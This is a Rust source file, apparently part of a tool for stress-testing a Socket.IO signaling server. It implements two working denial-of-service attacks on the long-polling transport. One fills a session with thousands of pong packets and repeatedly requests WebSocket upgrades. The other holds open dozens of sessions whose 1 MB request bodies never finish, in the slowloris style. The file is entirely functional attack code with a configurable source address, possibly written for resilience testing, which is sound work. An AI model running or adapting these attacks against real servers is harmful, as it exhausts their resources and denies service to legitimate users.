//! Attacks on long polling, which need a session first. Their sockets block.

use super::swarm::Tally;
use super::words;
use crate::clock::now;
use crate::signaling::http::{self, Response};
use crate::signaling::source;
use anyhow::{Context as _, Result, bail};
use serde_json::Value;
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

const POLLING: &str = "/socket.io/?EIO=4&transport=polling";
const UPGRADES: usize = 600;
const BODIES: usize = 64;
/// The largest body that the server reads.
const BODY_BYTES: usize = 1_000_000;
/// Enough for the session to be busy with for two minutes, at the pace of its connection.
const PONGS: usize = 4_000;

/// Keeps a session busy, and asks for a WebSocket for it again and again.
pub(crate) fn upgrade_again_and_again(
    target: SocketAddr,
    from: Ipv4Addr,
    until: Instant,
) -> Result<Tally> {
    let mut line = Line::new(target, from);
    let session = line.open()?;
    let pongs = vec!["3"; PONGS].join("\x1e");
    let target_of_post = format!("{POLLING}&sid={session}");
    let mut held = vec![line.begin(&http::post(&target_of_post, target, &pongs))?];
    for _ in (0..UPGRADES).take_while(|_| now() < until) {
        match line.begin(&words::old_upgrade(target, Some(&session))) {
            Ok(stream) => held.push(stream),
            Err(_) => line.tally.thrown_out += 1,
        }
    }
    line.wait(held, until);
    Ok(line.tally)
}

/// Begins bodies whose last byte never comes, each in a session of its own.
pub(crate) fn leave_bodies_open(
    target: SocketAddr,
    from: Ipv4Addr,
    until: Instant,
) -> Result<Tally> {
    let mut line = Line::new(target, from);
    let mut held = Vec::new();
    for _ in (0..BODIES).take_while(|_| now() < until) {
        let Ok(session) = line.open() else {
            line.tally.thrown_out += 1;
            continue;
        };
        let path = format!("{POLLING}&sid={session}");
        let request = http::post(&path, target, &"3".repeat(BODY_BYTES));
        match line.begin(&request[..request.len() - 1]) {
            Ok(stream) => held.push(stream),
            Err(_) => line.tally.thrown_out += 1,
        }
    }
    line.wait(held, until);
    Ok(line.tally)
}

/// Where the attacker is, and what it has done.
struct Line {
    target: SocketAddr,
    from: Ipv4Addr,
    tally: Tally,
}

impl Line {
    fn new(target: SocketAddr, from: Ipv4Addr) -> Self {
        let tally = Tally::default();
        Self {
            target,
            from,
            tally,
        }
    }

    /// The id of a new session.
    fn open(&mut self) -> Result<String> {
        let mut stream = self.begin(&http::get(POLLING, self.target))?;
        let mut received = Vec::new();
        loop {
            if let Some((response, _)) = Response::first(&received)? {
                let open = response.body.strip_prefix(b"0").context("no session")?;
                let open: Value = serde_json::from_slice(open)?;
                let session = open["sid"].as_str().context("no session id")?;
                return Ok(session.to_owned());
            }
            let mut buffer = [0; 1_024];
            let read = stream.read(&mut buffer)?;
            if read == 0 {
                bail!("the server hung up");
            }
            self.tally.received += read as u64;
            received.extend(&buffer[..read]);
        }
    }

    /// A connection on which this has been said.
    fn begin(&mut self, words: &[u8]) -> Result<TcpStream> {
        const PATIENCE: Option<Duration> = Some(Duration::from_secs(2));
        let mut stream = source::connect(self.from, self.target)?;
        stream.set_nonblocking(false)?;
        stream.set_read_timeout(PATIENCE)?;
        stream.set_write_timeout(PATIENCE)?;
        stream.write_all(words)?;
        self.tally.sent += words.len() as u64;
        Ok(stream)
    }

    /// Holds the connections until then, and counts what came meanwhile.
    fn wait(&mut self, held: Vec<TcpStream>, until: Instant) {
        std::thread::sleep(until.saturating_duration_since(now()));
        for mut stream in held {
            let mut buffer = [0; 4_096];
            if stream.set_nonblocking(true).is_err() {
                continue;
            }
            while let Ok(read @ 1..) = stream.read(&mut buffer) {
                self.tally.received += read as u64;
            }
        }
    }
}
